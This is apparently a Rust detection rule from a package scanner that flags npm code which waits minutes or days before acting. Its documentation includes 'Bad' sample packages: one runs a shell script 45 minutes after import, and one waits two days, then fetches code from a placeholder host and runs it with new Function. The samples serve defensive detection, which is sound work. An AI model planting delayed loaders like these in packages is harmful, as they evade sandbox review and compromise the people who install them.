//! # Code acts after minutes of waiting
//!
//! A timer of five minutes or more stands before code that starts programs, runs text, deletes files or sends
//! secrets, at install or import.
//!
//! ## Why it matters
//!
//! Sandboxes watch for seconds. What begins later is never seen there.
//!
//! ## Known benign uses
//!
//! Retries wait for seconds; caches and tokens are renewed by repeating timers.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! const { exec } = require("child_process");
//! setTimeout(() => {
//!   exec("sh ./lib/sync.sh"); //~ here
//! }, 45 * 60 * 1000);
//! exports.sync = () => true;
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! const pause = (time) => new Promise((done) => setTimeout(done, time));
//! async function start() {
//!   await pause(2 * 86400e3);
//!   const { body } = await require("undici").request("https://later.invalid/");
//!   new Function(await body.text())(); //~ here
//! }
//! start();
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! const { exec } = require("child_process");
//! exports.retry = (command) => setTimeout(() => exec(command), 1000);
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! const cache = new Map();
//! setTimeout(() => cache.clear(), 3600000).unref();
//! exports.run = (command) => require("child_process").execFileSync(command);
//! ```
//!
//! ## References
//!
//! - Socket: destructive packages with delays (2025)

use stockade_facts::guard::GuardKind;

use crate::prelude::*;

/// Code acts after minutes of waiting.
pub struct HarmBehindLongWait;

impl Rule for HarmBehindLongWait {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "harm-behind-long-wait",
            title: "Code acts after minutes of waiting",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1497.003",
            covers: &["evade-sleep"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for harm in facts.harms().iter().filter(|harm| harm.trigger.runs_unasked()) {
            if let Some(wait) = facts.guard_before(GuardKind::Wait, harm.spot) {
                let harmful = (facts.locus(harm.spot), harm.does);
                found.path(harm.trigger, &[(wait, "waits for minutes or more"), harmful]);
            }
        }
    }
}
